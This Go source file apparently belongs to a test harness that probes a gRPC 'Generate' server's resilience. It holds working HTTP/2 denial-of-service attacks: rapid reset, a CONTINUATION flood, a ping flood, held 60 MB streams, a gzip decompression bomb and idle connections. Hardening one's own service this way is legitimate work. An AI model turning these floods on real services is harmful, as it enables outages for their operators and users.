package attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func wireAttacks() []Attack {
	return []Attack{
		{Name: "held messages", Once: held},
		{Name: "gzip of empty parts", Once: raw(func(w *wire) error {
			return w.message(1, gzipped(emptyParts(32_000_000)),
				true, "gzip")
		})},
		{Name: "half a frame header", Once: raw(func(w *wire) error { return w.data(1, []byte{0, 0, 0}) })},
		{Name: "headers without end", Once: raw(endlessHeaders)},
		{Name: "rapid reset", Once: raw(rapidReset)},
		{Name: "silent connections", Once: silent},
		{Name: "pings", Once: raw(pings)},
	}
}

// wire is a connection that speaks HTTP/2 without a client's manners.
type wire struct {
	conn net.Conn
	fr   *http2.Framer
	mu   sync.Mutex // of credit
	room *sync.Cond
	// credit is what the server takes of the connection and of each stream, in bytes.
	credit map[uint32]int64
	answer string
	closed bool
}

const initialWindow = 65_535

func dialWire(ctx context.Context, addr string) (*wire, error) {
	var d net.Dialer
	conn, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	w := &wire{conn: conn, fr: http2.NewFramer(conn, conn), credit: map[uint32]int64{0: initialWindow}}
	w.room = sync.NewCond(&w.mu)
	if _, err = io.WriteString(conn, http2.ClientPreface); err == nil {
		err = w.fr.WriteSettings()
	}
	return w, err
}

// read follows the server's frames until the connection ends: windows, settings, the first answer.
func (w *wire) read() {
	dec := hpack.NewDecoder(4096, nil)
	for {
		f, err := w.fr.ReadFrame()
		w.mu.Lock()
		switch f := f.(type) {
		case *http2.WindowUpdateFrame:
			w.credit[f.StreamID] += int64(f.Increment)
		case *http2.HeadersFrame:
			fields, _ := dec.DecodeFull(f.HeaderBlockFragment()) // what cannot be read is no answer
			for _, h := range fields {
				if h.Name == "grpc-status" || h.Name == "grpc-message" || h.Name == ":status" && h.Value != "200" {
					w.answer = fmt.Sprintf("%s %s=%.80s", w.answer, h.Name, h.Value)
				}
			}
		case *http2.RSTStreamFrame:
			w.answer += " RST_STREAM " + f.ErrCode.String()
		case *http2.GoAwayFrame:
			w.answer += " GOAWAY " + f.ErrCode.String()
		}
		if err != nil {
			w.closed = true
		}
		w.room.Broadcast()
		w.mu.Unlock()
		if err != nil {
			return
		}
	}
}

// open starts a call of Generate.
func (w *wire) open(stream uint32, encoding string) error {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"},
		{Name: ":path", Value: "/mmserve.v1.MMServe/Generate"},
		{Name: ":authority", Value: "attack"}, {Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	}
	if encoding != "" {
		fields = append(fields, hpack.HeaderField{Name: "grpc-encoding", Value: encoding})
	}
	for _, h := range fields {
		if err := enc.WriteField(h); err != nil {
			return err
		}
	}
	w.mu.Lock()
	w.credit[stream] += initialWindow
	w.mu.Unlock()
	return w.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true})
}

// data sends bytes as the server's windows allow, until it answers.
func (w *wire) data(stream uint32, data []byte) error {
	for len(data) > 0 {
		w.mu.Lock()
		for !w.closed && w.answer == "" && (w.credit[0] <= 0 || w.credit[stream] <= 0) {
			w.room.Wait()
		}
		n := min(int64(len(data)), 16_384, w.credit[0], w.credit[stream])
		w.credit[0] -= n
		w.credit[stream] -= n
		over := w.closed || w.answer != ""
		w.mu.Unlock()
		if over {
			return io.ErrClosedPipe
		}
		if err := w.fr.WriteData(stream, false, data[:n]); err != nil {
			return err
		}
		data = data[n:]
	}
	return nil
}

// message opens a call and sends a message.
func (w *wire) message(stream uint32, body []byte, compressed bool, encoding string) error {
	if err := w.open(stream, encoding); err != nil {
		return err
	}
	prefix := make([]byte, 5)
	if compressed {
		prefix[0] = 1
	}
	binary.BigEndian.PutUint32(prefix[1:], uint32(len(body)))
	return w.data(stream, append(prefix, body...))
}

// raw does something on a connection of its own, and waits until the server ends it or ctx is done.
func raw(do func(*wire) error) func(context.Context, string) string {
	return func(ctx context.Context, addr string) string {
		w, err := dialWire(ctx, addr)
		if err != nil {
			return err.Error()
		}
		ended := make(chan struct{})
		go func() { defer close(ended); w.read() }()
		defer context.AfterFunc(ctx, func() { w.conn.Close() })()
		defer func() { w.conn.Close(); <-ended }()
		err = do(w)
		w.mu.Lock()
		defer w.mu.Unlock()
		for err == nil && !w.closed && w.answer == "" && ctx.Err() == nil {
			w.room.Wait()
		}
		if w.answer == "" {
			return fmt.Sprintf("none (%v)", err)
		}
		return w.answer
	}
}

// held sends forty messages of 60 MB on one connection, each but for its last byte.
var held = raw(func(w *wire) error {
	const size, streams = 60_000_000, 40
	piece := make([]byte, 1<<20)
	prefix := binary.BigEndian.AppendUint32([]byte{0}, size)
	for i := range streams {
		if err := w.open(uint32(2*i+1), ""); err != nil {
			return err
		}
		if err := w.data(uint32(2*i+1), prefix); err != nil {
			return err
		}
	}
	var group sync.WaitGroup
	var one sync.Mutex // the framer's
	errs := make([]error, streams)
	for i := range streams {
		group.Go(func() {
			for sent := 0; sent < size-1 && errs[i] == nil; {
				n := min(len(piece), size-1-sent, 16_384)
				one.Lock()
				errs[i] = w.data(uint32(2*i+1), piece[:n])
				one.Unlock()
				sent += n
			}
		})
	}
	group.Wait()
	return nil
})

// emptyParts is a GenerateRequest of one chat message with so many bytes of empty parts.
func emptyParts(size int) []byte {
	field := func(number byte, body []byte) []byte {
		return append(binary.AppendUvarint([]byte{number<<3 | 2}, uint64(len(body))), body...)
	}
	parts := bytes.Repeat([]byte{2<<3 | 2, 0}, size/2)
	return field(chatField, field(1, parts))
}

// chatField is GenerateRequest.chat's number.
const chatField = 3

func gzipped(b []byte) []byte {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	z.Write(b)
	z.Close()
	return out.Bytes()
}

// endlessHeaders opens a call whose headers go on in CONTINUATION frames.
func endlessHeaders(w *wire) error {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for i := range 200 {
		if err := enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d", i),
			Value: "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}); err != nil {
			return err
		}
	}
	err := w.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes()})
	for i := 0; err == nil && i < 100_000; i++ {
		err = w.fr.WriteContinuation(1, false, block.Bytes()[:8000])
	}
	return err
}

// rapidReset opens calls and takes them back at once.
func rapidReset(w *wire) error {
	for i := range uint32(50_000) {
		if err := w.open(2*i+1, ""); err != nil {
			return err
		}
		if err := w.fr.WriteRSTStream(2*i+1, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

func pings(w *wire) error {
	for range 1_000_000 {
		if err := w.fr.WritePing(false, [8]byte{}); err != nil {
			return err
		}
	}
	return nil
}

// silent opens four hundred connections that say nothing.
func silent(ctx context.Context, addr string) string {
	var d net.Dialer
	var open []net.Conn
	defer func() {
		for _, c := range open {
			c.Close()
		}
	}()
	for range 400 {
		c, err := d.DialContext(ctx, "tcp", addr)
		if err != nil {
			break
		}
		open = append(open, c)
	}
	began := time.Now()
	n := 0
	var group sync.WaitGroup
	var mu sync.Mutex
	for _, c := range open {
		group.Go(func() {
			defer context.AfterFunc(ctx, func() { c.SetReadDeadline(time.Now()) })()
			if _, err := io.Copy(io.Discard, c); err == nil {
				mu.Lock()
				n++
				mu.Unlock()
			}
		})
	}
	group.Wait()
	return fmt.Sprintf("%d of %d closed by the server after %v", n, len(open), time.Since(began).Round(time.Second))
}
